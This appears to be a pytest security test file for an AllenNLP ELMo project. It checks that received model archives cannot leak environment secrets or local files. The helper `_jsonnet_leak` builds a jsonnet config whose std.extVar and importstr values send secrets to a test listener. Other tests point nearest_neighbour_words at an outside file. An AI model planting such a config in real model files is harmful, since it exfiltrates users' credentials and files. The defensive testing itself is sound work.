"""
Nothing from the environment or from outside files reaches a received model's config.

The attacks, each refused:
- An archive's config.json evaluated as jsonnet (as AllenNLP's own `load_archive`, behind
  `allennlp predict` / `evaluate`, does), with every environment variable as an external
  variable (`std.extVar`) and `importstr` of any file: the result, put in a URL the loader
  fetches (here a char-CNN's ELMo options), would leave the machine before any error.
  `PretrainedBiLM.from_archive` and its users (`ElmoC`, `ElmoCEmbedder`, `elmo-c-embed`, spaCy,
  `package`) and `describe` read config.json as JSON first; their cases hold the refusal's
  message.
- `model.nearest_neighbour_words` of a received biLM (a model directory or an archive) would turn
  any file's lines into the next-word predictor's output (`allennlp predict --predictor
  elmo_c_next_word`).
"""

import json
from pathlib import Path

import pytest

from allennlp.models.archival import load_archive

from tests.security.received_models import (
    allennlp,
    craft_archive,
    craft_directory,
    front_doors,
    listener,
    refusal,
    task_archive_doors,
    train_task_archive,
)

SECRET = "s1-leak-token-7f3a"
FILE_SECRET = "file-secret-91c2"
SECRET_WORDS = ["zqxprivateone", "zqxprivatetwo", "zqxprivatethree"]


def _jsonnet_leak(config: dict, base: str, secret_file: Path, place: str) -> str:
    """`config` as jsonnet that puts the environment variable S1_LEAK_SECRET and the contents of
    `secret_file` in the URL of a char-CNN's ELMo options, at `place` (`target` of a biLM, an
    input `token_embedder` of a task model)."""
    options = {"type": "elmo_char_cnn", "options_file": "@@URL@@", "weight_file": "@@URL@@"}
    if place == "target":
        config["model"]["target_embedder"] = {"token_embedders": {"tokens": options}}
    else:
        config["model"]["text_field_embedder"]["token_embedders"]["chars"] = options
    url = (
        f'"{base}/" + std.extVar("S1_LEAK_SECRET") + "/" '
        f'+ std.strReplace(importstr "{secret_file}", "\\n", "")'
    )
    return json.dumps(config).replace('"@@URL@@"', url)


def _archive_config(archive: Path) -> dict:
    import tarfile

    with tarfile.open(archive) as opened:
        return json.load(opened.extractfile("config.json"))  # type: ignore[arg-type]


@pytest.fixture
def secrets(tmp_path, monkeypatch) -> Path:
    monkeypatch.setenv("S1_LEAK_SECRET", SECRET)
    secret_file = tmp_path / "private.txt"
    secret_file.write_text(FILE_SECRET + "\n")
    return secret_file


@pytest.fixture(scope="module")
def task_archive(tmp_path_factory) -> Path:
    return train_task_archive(tmp_path_factory.mktemp("task"))


DOORS = ["allennlp predict", "allennlp evaluate", "PretrainedBiLM.from_archive", "ElmoC",
         "ElmoCEmbedder", "elmo-c-embed", "spaCy component", "package", "describe"]  # fmt: skip


@pytest.mark.parametrize("door", DOORS)
def test_a_jsonnet_biLM_archive_leaks_nothing(door, elmo_c_archive, secrets, tmp_path, monkeypatch, capsys):
    """A biLM archive whose config.json is jsonnet reading the environment and a local file into
    a URL: read as plain JSON, it is refused before anything is evaluated or fetched."""
    with listener() as (base, requests):
        text = _jsonnet_leak(_archive_config(elmo_c_archive), base, secrets, "target")
        crafted = craft_archive(elmo_c_archive, tmp_path / "received" / "model.tar.gz", text=text)
        message = refusal(front_doors(crafted, tmp_path / "work", monkeypatch, directory=False)[door], capsys)
        assert requests == [], f"fetched {requests}"
    assert SECRET not in message and FILE_SECRET not in message
    assert "config.json is not plain JSON" in message, message


@pytest.mark.parametrize("door", ["allennlp predict", "allennlp evaluate", "load_archive"])
def test_a_jsonnet_task_archive_leaks_nothing(door, task_archive, secrets, tmp_path, monkeypatch, capsys):
    """The same for any AllenNLP task archive (a classifier here)."""
    with listener() as (base, requests):
        text = _jsonnet_leak(_archive_config(task_archive), base, secrets, "input")
        crafted = craft_archive(task_archive, tmp_path / "received" / "model.tar.gz", text=text)
        message = refusal(task_archive_doors(crafted, tmp_path, monkeypatch)[door], capsys)
        assert requests == [], f"fetched {requests}"
    assert "config.json is not plain JSON" in message, message


def _secret_words(tmp_path: Path) -> Path:
    path = tmp_path / "outside" / "private_words.txt"
    path.parent.mkdir()
    path.write_text("\n".join(SECRET_WORDS) + "\n")
    return path


def _predict_next_words(monkeypatch, model: Path, tmp_path: Path) -> str:
    inputs = tmp_path / "inputs.jsonl"
    inputs.write_text(json.dumps({"sentence": "The council met"}) + "\n")
    output = tmp_path / "predictions.jsonl"
    allennlp(monkeypatch, "predict", str(model), str(inputs), "--predictor", "elmo_c_next_word",
             "--predictor-args", json.dumps({"top_k": len(SECRET_WORDS)}), "--output-file",
             str(output), "--silent")  # fmt: skip
    return output.read_text()


def test_nearest_neighbour_words_of_an_archive_are_never_read(elmo_c_archive, tmp_path, monkeypatch):
    """A biLM archive (as `allennlp train` writes them, with the training-time candidate list)
    whose `nearest_neighbour_words` names a file outside: every loader drops the setting, so the
    archive loads and the predictor's words are the fastText model's, never the file's."""
    secret_words = _secret_words(tmp_path)

    def edit(config):
        config["model"]["nearest_neighbour_words"] = str(secret_words)

    crafted = craft_archive(elmo_c_archive, tmp_path / "received" / "model.tar.gz", edit)
    predictions = _predict_next_words(monkeypatch, crafted, tmp_path)
    assert not any(word in predictions for word in SECRET_WORDS), predictions
    assert load_archive(str(crafted)).model.candidate_words is None


def test_nearest_neighbour_words_in_a_model_directory_are_refused(model_directory, tmp_path, monkeypatch, capsys):
    """A model directory (which `package` writes without the setting) naming a file outside is
    refused at every front door, naming the key."""
    secret_words = _secret_words(tmp_path)

    def edit(config):
        config["bilm"]["model"]["nearest_neighbour_words"] = str(secret_words)

    crafted = craft_directory(model_directory[0], tmp_path / "received", edit)
    output = tmp_path / "predictions.jsonl"
    message = refusal(lambda: _predict_next_words(monkeypatch, crafted, tmp_path), capsys)
    assert not output.exists() or not any(word in output.read_text() for word in SECRET_WORDS)
    assert "bilm.model.nearest_neighbour_words" in message, message
    for name, door in front_doors(crafted, tmp_path / "work", monkeypatch, directory=True).items():
        assert "bilm.model.nearest_neighbour_words" in refusal(door, capsys), name
